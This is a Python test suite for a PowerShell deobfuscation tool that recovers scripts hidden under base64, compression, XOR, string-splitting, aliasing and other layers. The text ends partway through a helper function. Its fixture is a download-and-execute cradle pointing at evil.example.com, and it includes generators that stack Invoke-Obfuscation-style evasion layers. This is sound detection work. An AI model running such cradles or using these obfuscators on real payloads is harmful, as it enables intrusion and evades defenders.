"""PowerShell peelers: one table per technique, then an obfuscation suite of stacked layers."""

from __future__ import annotations

import base64
import gzip
import random
import time
import zlib
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wingman.core.scripts.layers import peel
from wingman.core.scripts.peelers import encoding, powershell, registry
from wingman.core.scripts.types import Budget, BudgetExceeded, Decoded, Lang, Layer

URL = "http://evil.example.com/a.ps1"
SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('{URL}')"
PEELERS_ALL = registry(encoding.PEELERS, powershell.PEELERS)
PS = powershell.PEELERS
IEX_PAYLOAD = "powershell_iex_payload"
# An obfuscation step: script in, (script out, techniques that peel it, outermost first).
Obfuscator = Callable[[str], tuple[str, list[str]]]


def budget(**bounds: int) -> Budget:
    return Budget(deadline=time.monotonic() + 60, **bounds)


def run(name: str, text: str) -> list[Decoded]:
    """Run one peeler and check what every peeler promises about its results."""
    found = PS[name].run(text, budget())
    for decoded in found:
        assert decoded.technique.startswith(name) or decoded.technique == "binary_strings"
        assert 0 <= decoded.start <= decoded.end <= len(text)
    return found


def rewrite(name: str, text: str) -> str | None:
    """Return what one rewrite peeler makes of a text, or None when it leaves it alone."""
    assert PS[name].kind == "rewrite"
    found = run(name, text)
    assert len(found) <= 1
    if found:
        assert (found[0].start, found[0].end) == (0, len(text))
    return found[0].content if found else None


def contents(name: str, text: str) -> list[str]:
    return [decoded.content for decoded in run(name, text)]


def peel_all(text: str, language: Lang = Lang.POWERSHELL) -> list[Layer]:
    layers, stopped = peel(text, language, peelers=PEELERS_ALL, budget=budget())
    assert stopped is None
    return layers


def quote(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def utf16_base64(value: str) -> str:
    return base64.b64encode(value.encode("utf-16-le")).decode()


# --- -EncodedCommand -------------------------------------------------------------------


@pytest.mark.parametrize(
    "flag",
    ["-e", "-E", "-ec", "-en", "-enc", "-ENC", "-encod", "-EncodedCommand", "/e", "\u2013enc"],
)
def test_encoded_command_flags(flag: str) -> None:
    text = f"powershell.exe -NoProfile {flag} {utf16_base64(SCRIPT)}"
    found = run("powershell_encoded_command", text)
    assert [(decoded.content, decoded.language) for decoded in found] == [(SCRIPT, Lang.POWERSHELL)]
    assert text[found[0].start : found[0].end] == utf16_base64(SCRIPT)


@pytest.mark.parametrize("language", [Lang.BATCH, Lang.BASH, Lang.VBSCRIPT, Lang.JAVASCRIPT])
def test_encoded_command_in_other_languages(language: Lang) -> None:
    text = f'WScript.Shell.Run "powershell -w hidden -enc "{utf16_base64(SCRIPT)}""'
    layers = peel_all(text, language)
    assert [(layer.technique, layer.language) for layer in layers[1:]] == [
        ("powershell_encoded_command", Lang.POWERSHELL)
    ]
    assert layers[1].content == SCRIPT


def test_flag_before_plain_base64_reads_as_base64() -> None:
    text = f'echo -e "{b64(SCRIPT.encode())}"'
    found = PS["powershell_encoded_command"].run(text, budget())
    assert [(decoded.technique, decoded.content, decoded.language) for decoded in found] == [
        ("base64", SCRIPT, None)
    ]
    assert [layer.technique for layer in peel_all(text, Lang.BASH)] == ["input", "base64"]


@pytest.mark.parametrize(
    "text",
    [
        "powershell -exec bypass -file a.ps1",
        "grep -e someLongPatternWordHere file",
        "sed -e s/foo/bar/g file",
        f"powershell -enc {utf16_base64(SCRIPT)[:6]}",
        f"powershell -encodedcommandx {utf16_base64(SCRIPT)}",
        f"powershell -ea {utf16_base64(SCRIPT)}",
        "powershell -enc !!!!notbase64!!!!",
    ],
)
def test_encoded_command_negative(text: str) -> None:
    assert run("powershell_encoded_command", text) == []


# --- [Convert]::FromBase64String ---------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "technique"),
    [
        (
            "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}'))",
            "powershell_from_base64",
        ),
        (
            '[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String("{}"))',
            "powershell_from_base64",
        ),
        ("$b = [Convert]::FromBase64String('{}')", "powershell_from_base64"),
        ('powershell -c "[Convert]::FromBase64String(\\"{}\\")"', "powershell_from_base64"),
    ],
)
def test_from_base64(text: str, technique: str) -> None:
    encoded = utf16_base64(SCRIPT) if "Unicode" in text else b64(SCRIPT.encode())
    found = run("powershell_from_base64", text.replace("{}", encoded))
    assert [(decoded.technique, decoded.content) for decoded in found] == [(technique, SCRIPT)]


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def raw_deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


@pytest.mark.parametrize(
    ("stream", "data", "technique"),
    [
        ("GzipStream", gzip.compress(SCRIPT.encode()), "powershell_from_base64+gzip"),
        ("DeflateStream", raw_deflate(SCRIPT.encode()), "powershell_from_base64+deflate"),
    ],
)
def test_compressed_streams(stream: str, data: bytes, technique: str) -> None:
    text = (
        f"IEX (New-Object IO.StreamReader(New-Object IO.Compression.{stream}("
        f"[IO.MemoryStream][Convert]::FromBase64String('{b64(data)}'),"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    )
    found = run("powershell_from_base64", text)
    assert [(decoded.technique, decoded.content) for decoded in found] == [(technique, SCRIPT)]


def test_from_base64_follows_a_variable_assigned_once() -> None:
    text = f"$e = '{b64(SCRIPT.encode())}'\n$d = [Convert]::FromBase64String($e)"
    assert contents("powershell_from_base64", text) == [SCRIPT]
    reassigned = f"$e = 'x'\n{text}"
    assert contents("powershell_from_base64", reassigned) == []


@pytest.mark.parametrize(
    "text",
    [
        "[Convert]::FromBase64String('!!not base64!!')",
        "[Convert]::FromBase64String($undefined)",
        "[Convert]::FromBase64String('QUJD' + 'REVG')",
        'Convert.FromBase64String("SGVsbG8gd29ybGQgZnJvbSBDIw==")',
    ],
)
def test_from_base64_negative(text: str) -> None:
    assert run("powershell_from_base64", text) == []


# --- -bxor ---------------------------------------------------------------------------


def xored(value: str, key: int) -> str:
    return ",".join(str(byte ^ key) for byte in value.encode())


@pytest.mark.parametrize(
    "text",
    [
        f"-join (({xored(SCRIPT, 0x36)}) | ForEach-Object {{ [char]($_ -bxor 0x36) }})",
        f'-join (({xored(SCRIPT, 54)}) | % {{ [char]($_ -bXoR "0x36") }})',
        f"$d = @({xored(SCRIPT, 54)})\n-join ($d | % {{ [char](54 -bxor $_) }})",
        f"$b = [Convert]::FromBase64String('{b64(bytes(b ^ 7 for b in SCRIPT.encode()))}')\n"
        "for ($i = 0; $i -lt $b.Length; $i++) { $b[$i] = $b[$i] -bxor 7 }",
        f"$k = 'key'\n$d = [byte[]]({xored(SCRIPT, 0)})\n$d | % {{ $_ -bxor 0 }}",
    ],
)
def test_bxor(text: str) -> None:
    assert SCRIPT in contents("powershell_bxor", text)


def test_bxor_with_a_repeating_key() -> None:
    key = b"k3y"
    data = ",".join(str(byte ^ key[i % 3]) for i, byte in enumerate(SCRIPT.encode()))
    text = f"$k = [Text.Encoding]::ASCII.GetBytes('k3y')\n$d = ({data})\n"
    text += "for ($i = 0; $i -lt $d.Count; $i++) { $d[$i] = $d[$i] -bxor $k[$i % $k.Length] }"
    assert contents("powershell_bxor", text) == [SCRIPT]


@pytest.mark.parametrize(
    "text",
    [
        "(1,2,3) | % { $_ -bxor $key }",
        "$x -bxor 5",
        "(300,400,500,600,700,800,900,1000) | % { $_ -bxor 1 }",
        "'(1,2,3) | % { $_ -bxor 1 }'",
    ],
)
def test_bxor_negative(text: str) -> None:
    assert run("powershell_bxor", text) == []


# --- Invoke-Expression payloads --------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        f"iex {quote(SCRIPT)}",
        f"Invoke-Expression -Command {quote(SCRIPT)}",
        f"IEX({quote(SCRIPT)})",
        f"{quote(SCRIPT)} | iex",
        f"({quote(SCRIPT)}) | Invoke-Expression",
        f"[ScriptBlock]::Create({quote(SCRIPT)}).Invoke()",
        f"$ExecutionContext.InvokeCommand.InvokeScript({quote(SCRIPT)})",
        f'iex "{SCRIPT}"',
        f"iex @'\n{SCRIPT}\n'@",
    ],
)
def test_iex_payload(text: str) -> None:
    found = run("powershell_iex_payload", text)
    assert [(decoded.content, decoded.language) for decoded in found] == [(SCRIPT, Lang.POWERSHELL)]


@pytest.mark.parametrize(
    "text",
    [
        "iex $payload",
        'iex "Write-Host $name"',
        "iex ('a' + 'b')",
        "Write-Host 'iex ''x'''",
        "# iex 'Write-Host'",
        "iex 'x' 'y'",
        "$iex = 'value'",
    ],
)
def test_iex_payload_negative(text: str) -> None:
    assert run("powershell_iex_payload", text) == []


# --- rewrites --------------------------------------------------------------------------

REWRITES: list[tuple[str, str, str | None]] = [
    (
        "powershell_backtick",
        "I`E`X (New-`Obj`ect Net.`WebClient)",
        "IEX (New-Object Net.WebClient)",
    ),
    ("powershell_backtick", 'Write-Host "a`nb`tc `W"', 'Write-Host "a`nb`tc W"'),
    ("powershell_backtick", "Write-Host 'I`E`X' # I`E`X", None),
    ("powershell_backtick", "i`nvoke a``b", None),
    ("powershell_backtick", "[Collections.Generic.List`1[string]]::new()", None),
    (
        "powershell_iex_alias",
        "sal x iex; x $c; $x = 'x'",
        "sal x iex; Invoke-Expression $c; $x = 'x'",
    ),
    ("powershell_iex_alias", "x $c; sal x iex", None),
    ("powershell_iex_alias", "sal x Get-Date; x", None),
    ("powershell_char_codes", "(-join ('72a73' -split '.' | % {[char][int]$_}))", None),
    ("powershell_char_codes", "(-join ('72a7z' -split 'a' | % {[char][int]$_}))", None),
    ("powershell_backtick", "$t = 'Dictionary`2'; [type]\"Dictionary`2\"", None),
    ("powershell_backtick", "W`I`N`3`2_Process", "WIN32_Process"),
    (
        "powershell_lookalikes",
        "Start-Process\u00a0\u2013FilePath \u2018a.exe\u2019 \u201cb\u201d",
        "Start-Process -FilePath 'a.exe' \"b\"",
    ),
    ("powershell_lookalikes", "I\u200bE\u200dX\x1d$x\u3000|\x1fOut-Null", "IEX $x | Out-Null"),
    ("powershell_lookalikes", "Write-Host 'plain - ascii'", None),
    ("powershell_lookalikes", "Write-Host 'caf\u00e9 \u00fcber'", None),
    ("powershell_backtick", '@"\nI`EX\n"@', '@"\nIEX\n"@'),
    ("powershell_concat", "iex ('I'+'EX')", "iex ('IEX')"),
    ("powershell_concat", "$a = 'Invoke-' + \"Expression\"", "$a = 'Invoke-Expression'"),
    ("powershell_concat", "&([char]105+[char]101+[char]0x78)", "&('iex')"),
    ("powershell_concat", "&([string][char]73+[char]69+'X')", "&('IEX')"),
    ("powershell_concat", "(('a'+'b')+('c'))", "('abc')"),
    ("powershell_concat", "x ((( 'a' )))+'b'", "x ('a')+'b'"),
    ("powershell_concat", "iex (((( 'a' )))+('b'))", "iex ('ab')"),
    ("powershell_concat", "x (((('a'))))", "x ('a')"),
    ("powershell_concat", "$x.Invoke(('a'))", "$x.Invoke('a')"),
    ("powershell_concat", "@(('a'))+'b'", "@('a')+'b'"),
    ("powershell_concat", "x ('it''s'+' ok')", "x ('it''s ok')"),
    ("powershell_concat", "iex 'a'+'b'", None),
    ("powershell_concat", "('a'+'b'*2)", None),
    ("powershell_concat", "('a'+'b','c')", None),
    ("powershell_concat", "$x + 'a' + 'b'", None),
    ("powershell_concat", "('{0}'+'b' -f 'x')", None),
    ("powershell_concat", "@('a')+'b'", None),
    ("powershell_concat", "('a'+\"$b\")", None),
    ("powershell_format_operator", "iex (\"{1}{0}\" -f 'EX','I')", "iex ('IEX')"),
    (
        "powershell_format_operator",
        ".(\"{0}{3}{1}{2}{4}{5}\" -f 'Inv','Expre','s','oke-','si','on')",
        ".('Invoke-Expression')",
    ),
    ("powershell_format_operator", "('{0,3}|{1,-2}|{{x}}' -F 'a',7)", "('  a|7 |{x}')"),
    ("powershell_format_operator", "('{0}{1}' -f ('a','b'))", "('ab')"),
    ("powershell_format_operator", "'x'+'{0}' -f 'a'", "'x'+'a'"),
    ("powershell_format_operator", "('{0}{1}'-f[char]73,'EX')", "('IEX')"),
    ("powershell_format_operator", "('{0}{{0}}' -f 'a' -f 'b')", "('ab')"),
    ("powershell_format_operator", "('{0:X}' -f 5)", None),
    ("powershell_format_operator", "('{3}' -f 'a')", None),
    ("powershell_format_operator", "'a','{0}' -f 'b'", None),
    ("powershell_format_operator", "('{0}' -f $x)", None),
    ("powershell_format_operator", "('{0}' -f 'a','b'.Length)", None),
    ("powershell_format_operator", "('{0' -f 'a')", None),
    ("powershell_replace", "iex ('IZX'.Replace('Z','E'))", "iex ('IEX')"),
    ("powershell_replace", "(('abc').replace('a','z').Replace('z','y'))", "('ybc')"),
    ("powershell_replace", "('aQZ6b'.Replace('QZ6',[string][char]39))", "('a''b')"),
    ("powershell_replace", "('aXbXc' -replace 'x','-')", "('a-b-c')"),
    ("powershell_replace", "('aXbXc' -creplace 'x','-')", "('aXbXc')"),
    ("powershell_replace", "('a.b' -replace '\\.','!')", "('a!b')"),
    ("powershell_replace", "('abcb' -replace 'b')", "('ac')"),
    ("powershell_replace", "('a.b' -replace '.','!')", None),
    ("powershell_replace", "('abc' -replace 'a','$1')", None),
    ("powershell_replace", "x ('abc' -replace 'a','b' + 'c')", None),
    ("powershell_replace", "iex 'abc' -replace 'a','b'", None),
    ("powershell_replace", "('abc'.Replace('', 'x'))", None),
    ("powershell_char_codes", "iex (-join [char[]](73,69,88))", "iex ('IEX')"),
    ("powershell_char_codes", "&([char[]](73,69,0x58) -join '')", "&('IEX')"),
    ("powershell_char_codes", "iex (-join ((73,69,88) | % {[char]$_}))", "iex ('IEX')"),
    ("powershell_char_codes", "iex ((73,69,88|foreach{ [char]$_ }) -join '')", "iex ('IEX')"),
    ("powershell_char_codes", "&([char]73,'E',[char]88 -join '')", "&('IEX')"),
    ("powershell_char_codes", "[string]::Join('', [char[]](73,69,88))", "'IEX'"),
    ("powershell_char_codes", "x (-join [char[]](104,105) + '!')", "x ('hi' + '!')"),
    ("powershell_char_codes", "x -join [char[]](73,69,88)", None),
    ("powershell_char_codes", "$a -join ([char]73,[char]69)", None),
    ("powershell_char_codes", "(-join [char[]](73,69,88).Length)", None),
    ("powershell_char_codes", "(-join [char[]](73,55296))", None),
    ("powershell_reverse", "iex ('XEI'[-1..-3] -join '')", "iex ('IEX')"),
    ("powershell_reverse", "iex (-join 'txet'[-1..-4])", "iex ('text')"),
    (
        "powershell_reverse",
        "$s='txet'; iex (-join ($s[-1..-($s.Length)]))",
        "$s='txet'; iex ('text')",
    ),
    ("powershell_reverse", "$s='abc'; ($s[($s.Length-1)..0] -join '')", "$s='abc'; ('cba')"),
    (
        "powershell_reverse",
        "$v = 'xei'.ToCharArray(); [array]::Reverse($v); & ($v -join '')",
        "$v = 'xei'.ToCharArray(); [array]::Reverse($v); & ('iex')",
    ),
    (
        "powershell_reverse",
        "$v = [char[]]'xei'; & (-join $v); [array]::Reverse($v); & (-join $v)",
        "$v = [char[]]'xei'; & (-join $v); [array]::Reverse($v); & ('iex')",
    ),
    ("powershell_reverse", "iex ('ab'[-1..-9] -join '')", None),
    ("powershell_reverse", "$s='a'; $s='b'; (-join $s[-1..-1])", None),
    ("powershell_reverse", "(-join 'abc'[-1..-99999999])", None),
    (
        "powershell_variable",
        "$a='Invoke-Expression'; & $a 'x'",
        "$a='Invoke-Expression'; & 'Invoke-Expression' 'x'",
    ),
    ("powershell_variable", "$a = 'iex'\n&($a) 'x'", "$a = 'iex'\n&('iex') 'x'"),
    ("powershell_variable", "$a='x'; . $a", "$a='x'; . 'x'"),
    (
        "powershell_variable",
        "$c = ('Write-Host hi'); iex $c",
        "$c = ('Write-Host hi'); iex 'Write-Host hi'",
    ),
    ("powershell_variable", "$c = 'Write-Host'; $c | iex", "$c = 'Write-Host'; 'Write-Host' | iex"),
    (
        "powershell_variable",
        "$a='Invoke-'; $b='Expression'; &($a+$b) x",
        "$a='Invoke-'; $b='Expression'; &('Invoke-'+'Expression') x",
    ),
    ("powershell_variable", "& $a; $a='x'", None),
    ("powershell_variable", "$a='x'; $a='y'; & $a", None),
    ("powershell_variable", "$a='x'; $a += 'y'; & $a", None),
    ("powershell_variable", "$a='x'; foreach($a in 1){}; & $a", None),
    ("powershell_variable", "$a='x'; sv a y; & $a", None),
    ("powershell_variable", "$a='x'; &('sv') a y; & $a", None),
    ("powershell_variable", "$a='x'; f -OutVariable a; & $a", None),
    ("powershell_variable", "function f { $a = 'x' }; & $a", None),
    ("powershell_variable", "$a='x'; function f($a) { & $a }", None),
    ("powershell_variable", "$a = 'x' | Out-String; & $a", None),
    ("powershell_variable", "$p = 'x'; $o.$p", None),
    ("powershell_iex_alias", "&('iex') 'x'", "Invoke-Expression 'x'"),
    ("powershell_iex_alias", ". ( 'Invoke-Expression' ) x", "Invoke-Expression x"),
    ("powershell_iex_alias", ".( $ShellId[1]+$ShellId[13]+'x') 'x'", "Invoke-Expression 'x'"),
    ("powershell_iex_alias", "&( $env:ComSpec[4,24,25]-join'') x", "Invoke-Expression x"),
    ("powershell_iex_alias", "&( $env:ComSpec[4,26,25]-Join '') x", "Invoke-Expression x"),
    ("powershell_iex_alias", ".( $PSHome[4]+$PSHome[30]+'x')", "Invoke-Expression"),
    ("powershell_iex_alias", "& ( $PSHome[21]+$PSHOME[34]+'X')", "Invoke-Expression"),
    ("powershell_iex_alias", "&( $env:Public[13]+$env:Public[5]+'x')", "Invoke-Expression"),
    (
        "powershell_iex_alias",
        ".( $VerbosePreference.ToString()[1,3]+'x'-Join'')",
        "Invoke-Expression",
    ),
    (
        "powershell_iex_alias",
        "&( ([String]$VerbosePreference)[1,3]+'X'-Join'')",
        "Invoke-Expression",
    ),
    ("powershell_iex_alias", "& ((Gv '*mDr*').NamE[3,11,2]-JOIN'')", "Invoke-Expression"),
    ("powershell_iex_alias", "&(gcm i*x) x", "Invoke-Expression x"),
    ("powershell_iex_alias", "&(Get-Command *ke-e*) x", "Invoke-Expression x"),
    ("powershell_iex_alias", "&(gcm i*) x", None),
    ("powershell_iex_alias", "&(gcm 'i[e]x') x", None),
    ("powershell_iex_alias", "&( $ShellId[1]+$ShellId[2]+'x')", None),
    ("powershell_iex_alias", "&( $ShellId[1]+$ShellId[99]+'x')", None),
    ("powershell_iex_alias", "&( $env:ComSpec[4,24,25])", None),
    ("powershell_iex_alias", "$x.('iex')", None),
    ("powershell_literal_call", "&('New-Object') Net.WebClient", "New-Object Net.WebClient"),
    ("powershell_literal_call", ".('New-Object') ('x')", "New-Object ('x')"),
    ("powershell_literal_call", "$w.('DownloadString')('u')", "$w.DownloadString('u')"),
    ("powershell_literal_call", "(x).'DownloadString'", "(x).DownloadString"),
    ("powershell_literal_call", "& 'C:\\a b.exe'", None),
    ("powershell_literal_call", "&('iex')", None),
    ("powershell_literal_call", "$x.('a b')", None),
]


@pytest.mark.parametrize(("name", "text", "expected"), REWRITES)
def test_rewrites(name: str, text: str, expected: str | None) -> None:
    assert rewrite(name, text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Write-Host 'a' + 'b'",
        "# 'a'+'b' and '{0}' -f 'x'",
        "'''a''+''b'''",
        "\"it's\" + 'x' -f",
        "<# 'a'+'b' #> $x",
        "@'\n'a'+'b'\n'@",
    ],
)
def test_rewrites_skip_comments_strings_and_command_arguments(text: str) -> None:
    for name, peeler in PS.items():
        if peeler.kind == "rewrite":
            assert rewrite(name, text) is None, name


@pytest.mark.parametrize(
    "text",
    [
        "('" + "{0}" * 20_000 + "' -f '" + "x" * 50_000 + "')",
        "('" + "{0,9999}" * 10_000 + "' -f 'a')",
        "('" + "a" * 50_000 + "'.Replace('a','" + "x" * 50_000 + "'))",
        "('" + "a" * 50_000 + "' -replace 'a','" + "x" * 50_000 + "')",
        "$a = '" + "x" * 50_000 + "'\n" + "& $a\n" * 3_000,
        "([char[]](" + ",".join(["65"] * 30_000) + ") -join '" + "x" * 50_000 + "')",
    ],
    ids=["format", "alignment", "replace", "operator", "variable", "join"],
)
def test_rewrites_never_grow_past_the_layer_bound(text: str) -> None:
    bound = 200_000
    for name, peeler in PS.items():
        if peeler.kind == "rewrite":
            for decoded in peeler.run(text, budget(max_layer_chars=bound)):
                assert len(decoded.content) <= bound, name


def test_a_long_spelling_of_iex_is_not_searched() -> None:
    text = "&( " + "+".join(["$env:comspec[4]"] * 5_000) + ")"
    assert rewrite("powershell_iex_alias", text) is None


MALFORMED = [
    "iex ('a'+'b",
    'iex ("{0}" -f',
    "'{0}' -f 'a',",
    "$a = 'x",
    "& $",
    "@'\nunterminated",
    "[char[]](73,69",
    "-join [char[]](",
    "'abc'[-1..",
    "[Convert]::FromBase64String('",
    "-bxor",
    "$x = [Convert]::FromBase64String($x)\n$x | % { $_ -bxor 1 }",
    '"$("',
    "`",
    "((((",
    "))))",
    "&( $env:ComSpec[",
    "'a'.Replace('a',",
    "${",
    "function f(",
]


@pytest.mark.parametrize("text", MALFORMED)
def test_malformed_input_is_not_an_error(text: str) -> None:
    for name in PS:
        assert isinstance(run(name, text), list)


# --- the obfuscation suite -------------------------------------------------------------


def chunked(value: str, size: int = 5) -> list[str]:
    return [value[index : index + size] for index in range(0, len(value), size)]


def encoded_command(script: str) -> tuple[str, list[str]]:
    text = f"powershell.exe -NoP -W Hidden -EncodedCommand {utf16_base64(script)}"
    return text, ["powershell_encoded_command"]


def from_base64(script: str) -> tuple[str, list[str]]:
    call = f"[Convert]::FromBase64String('{utf16_base64(script)}')"
    return f"iex ([Text.Encoding]::Unicode.GetString({call}))", ["powershell_from_base64"]


def gzip_stream(script: str) -> tuple[str, list[str]]:
    data = b64(gzip.compress(script.encode()))
    text = (
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream("
        f"[IO.MemoryStream][Convert]::FromBase64String('{data}'),"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    )
    return text, ["powershell_from_base64+gzip"]


def plain_base64(script: str) -> tuple[str, list[str]]:
    text = f"$e = '{b64(script.encode())}'\n"
    text += "$d = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($e))\niex $d"
    return text, ["base64"]


def hex_blob(script: str) -> tuple[str, list[str]]:
    text = f"$h = '{script.encode().hex()}'\n"
    text += "iex (-join ($h -split '(..)' | ? { $_ } | % { [char][Convert]::ToByte($_, 16) }))"
    return text, ["hex"]


def concat(script: str) -> tuple[str, list[str]]:
    joined = " + ".join(quote(piece) for piece in chunked(script))
    return f"iex ({joined})", ["powershell_concat", "powershell_iex_payload"]


def char_concat(script: str) -> tuple[str, list[str]]:
    joined = "+".join(f"[char]{ord(char)}" for char in script)
    return f"Invoke-Expression ({joined})", ["powershell_concat", "powershell_iex_payload"]


def format_operator(script: str) -> tuple[str, list[str]]:
    pieces = chunked(script, 4)
    order = list(range(len(pieces)))
    random.Random(len(script)).shuffle(order)
    template = "".join(f"{{{order.index(index)}}}" for index in range(len(pieces)))
    arguments = ",".join(quote(pieces[index]) for index in order)
    text = f'iex ("{template}" -f {arguments})'
    return text, ["powershell_format_operator", "powershell_iex_payload"]


def format_in_concat(script: str) -> tuple[str, list[str]]:
    parts = []
    for index, piece in enumerate(chunked(script, 6)):
        half = len(piece) // 2
        split = f"('{{1}}{{0}}' -f {quote(piece[half:])},{quote(piece[:half])})"
        parts.append(split if index % 2 else quote(piece))
    techniques = ["powershell_format_operator", "powershell_concat", "powershell_iex_payload"]
    return f"iex ({' + '.join(parts)})", techniques


def char_codes(script: str) -> tuple[str, list[str]]:
    codes = ",".join(str(ord(char)) for char in script)
    return f"iex (-join [char[]]({codes}))", ["powershell_char_codes", "powershell_iex_payload"]


def char_pipeline(script: str) -> tuple[str, list[str]]:
    # Decimal: 0x41,0x42 arrays are the hex peeler's and would be decoded before this runs.
    codes = ",".join(str(ord(char)) for char in script)
    text = f"iex ((({codes}) | ForEach-Object {{ [char]$_ }}) -join '')"
    return text, ["powershell_char_codes", "powershell_iex_payload"]


def split_codes(script: str) -> tuple[str, list[str]]:
    # Invoke-Obfuscation's ASCII encoding: codes between random letters, split more than once.
    codes = "".join(f"{ord(char)}{'xWq'[index % 3]}" for index, char in enumerate(script))[:-1]
    text = (
        f"IEX ([String]::Join('', ('{codes}' -SpLiT 'x' -sPlIt 'W|q' | ForEach-Object "
        "{ ([Char][Int]$_) })))"
    )
    return text, ["powershell_char_codes", "powershell_iex_payload"]


def split_binary(script: str) -> tuple[str, list[str]]:
    codes = ",".join(format(ord(char), "b") for char in script)
    text = f"iex (-join ('{codes}' -split ',' | % {{ [char][convert]::ToInt16($_, 2) }}))"
    return text, ["powershell_char_codes", "powershell_iex_payload"]


def split_hex(script: str) -> tuple[str, list[str]]:
    codes = "~".join(format(ord(char), "x") for char in script)
    text = f"iex (-join ('{codes}' -split '~' | % {{ [char]([convert]::ToInt32($_, 16)) }}))"
    return text, ["powershell_char_codes", "powershell_iex_payload"]


def right_to_left(script: str) -> tuple[str, list[str]]:
    text = (
        f"IEX ( ([regex]::Matches({quote(script[::-1])}, '.', 'RightToLeft') | ForEach "
        "{$_.Value}) -join '')"
    )
    return text, ["powershell_reverse", "powershell_iex_payload"]


def set_alias(script: str) -> tuple[str, list[str]]:
    text = f"Set-Alias -Name run -Value Invoke-Expression\nrun {quote(script)}"
    return text, ["powershell_iex_alias", "powershell_iex_payload"]


def reverse_slice(script: str) -> tuple[str, list[str]]:
    text = f"$r = {quote(script[::-1])}\niex (-join ($r[-1..-($r.Length)]))"
    return text, ["powershell_reverse", "powershell_iex_payload"]


def reverse_literal(script: str) -> tuple[str, list[str]]:
    text = f"iex ({quote(script[::-1])}[-1..-{len(script)}] -join '')"
    return text, ["powershell_reverse", "powershell_iex_payload"]


def reverse_array(script: str) -> tuple[str, list[str]]:
    text = f"$c = {quote(script[::-1])}.ToCharArray()\n[array]::Reverse($c)\niex (-join $c)"
    return text, ["powershell_reverse", "powershell_iex_payload"]


def replace_method(script: str) -> tuple[str, list[str]]:
    # A character base64 and hex never use, so wrapped blobs stay whole.
    token = _token(script)
    text = f"iex ({quote(script.replace(':', token))}.Replace('{token}',':'))"
    return text, ["powershell_replace", "powershell_iex_payload"]


def replace_operator(script: str) -> tuple[str, list[str]]:
    token = _token(script)
    text = f"iex ({quote(script.replace('.', token))} -replace '{token}','.')"
    return text, ["powershell_replace", "powershell_iex_payload"]


def _token(script: str) -> str:
    token = "~Q"
    while token.lower() in script.lower():
        token += "~"
    return token


def bxor(script: str) -> tuple[str, list[str]]:
    text = f"iex (-join (({xored(script, 0x2A)}) | % {{ [char]($_ -bxor 0x2A) }}))"
    return text, ["powershell_bxor"]


def bxor_base64(script: str) -> tuple[str, list[str]]:
    data = b64(bytes(byte ^ 0x51 for byte in script.encode()))
    text = f"$b = [Convert]::FromBase64String('{data}')\n"
    text += "iex (-join ($b | ForEach-Object { [char]($_ -bxor 81) }))"
    return text, ["powershell_bxor"]


def backtick(script: str) -> tuple[str, list[str]]:
    # Every backtick of `escaped` escapes a quote, a $ or a backtick, never a letter.
    escaped = script.replace("`", "``").replace('"', '`"').replace("$", "`$")
    ticked = "".join(
        "`" + char if char.isalnum() and char not in "0abefnrtuv" and index % 3 == 0 else char
        for index, char in enumerate(escaped)
    )
    return f'I`E`X "{ticked}"', ["powershell_backtick", "powershell_iex_payload"]


def variable(script: str) -> tuple[str, list[str]]:
    text = f"$i = 'Invoke-Expression'\n$p = {quote(script)}\n& $i $p"
    # $p is an argument, substituted once `& $i` has become Invoke-Expression.
    techniques = ["powershell_variable", "powershell_iex_alias", "powershell_variable"]
    return text, [*techniques, "powershell_iex_payload"]


def iex_alias(script: str) -> tuple[str, list[str]]:
    text = f".( $ShellId[1]+$ShellId[13]+'x') ({quote(script)})"
    return text, ["powershell_iex_alias", "powershell_iex_payload"]


def comspec_alias(script: str) -> tuple[str, list[str]]:
    text = f"{quote(script)} | &( $env:ComSpec[4,15,25]-Join'')"
    return text, ["powershell_iex_alias", "powershell_iex_payload"]


OBFUSCATORS: list[Obfuscator] = [
    encoded_command,
    from_base64,
    gzip_stream,
    plain_base64,
    hex_blob,
    concat,
    char_concat,
    format_operator,
    format_in_concat,
    char_codes,
    char_pipeline,
    split_codes,
    split_binary,
    split_hex,
    right_to_left,
    set_alias,
    reverse_slice,
    reverse_literal,
    reverse_array,
    replace_method,
    replace_operator,
    bxor,
    bxor_base64,
    backtick,
    variable,
    iex_alias,
    comspec_alias,
]
# What wraps the technique under test (innermost first), cycling so every pair shows up.
WRAPPERS: list[Obfuscator] = [
    concat,
    from_base64,
    format_operator,
    encoded_command,
    char_codes,
    gzip_stream,
    replace_method,
    reverse_slice,
]


def stack(script: str, steps: list[Obfuscator]) -> tuple[str, list[str]]:
    """Apply steps innermost first; return the text and the techniques, outermost first."""
    techniques: list[str] = []
    for step in steps:
        script, found = step(script)
        techniques = found + techniques
    return script, techniques


def chain(layers: list[Layer], layer: Layer) -> list[str]:
    """Return the techniques from the input down to a layer, outermost first."""
    found: list[str] = []
    while layer.parent >= 0:
        found.append(layer.technique)
        layer = layers[layer.parent]
    return found[::-1]


def is_subsequence(wanted: list[str], found: list[str]) -> bool:
    remaining = iter(found)
    return all(technique in remaining for technique in wanted)


def family(technique: str) -> str:
    """Name a technique's family: a base64 blob is one whichever peeler decoded it."""
    head, _, codec = technique.partition("+")
    head = "base64" if head == "powershell_from_base64" else head
    return f"{head}+{codec}" if codec else head


def essential(techniques: list[str]) -> list[str]:
    """Drop the payload step: an extractor may reach into a literal before it is lifted out."""
    return [family(technique) for technique in techniques if technique != IEX_PAYLOAD]


def assert_recovers(text: str, techniques: list[str], language: Lang = Lang.POWERSHELL) -> None:
    """Check the script comes back exactly, through the expected techniques in their order.

    The path may skip a wrapper whose change did not matter (a blob decoded from inside a
    literal before the literal was rewritten) but never adds a step or changes the order, and
    the innermost technique is the one that recovers the script.
    """
    layers = peel_all(text, language)
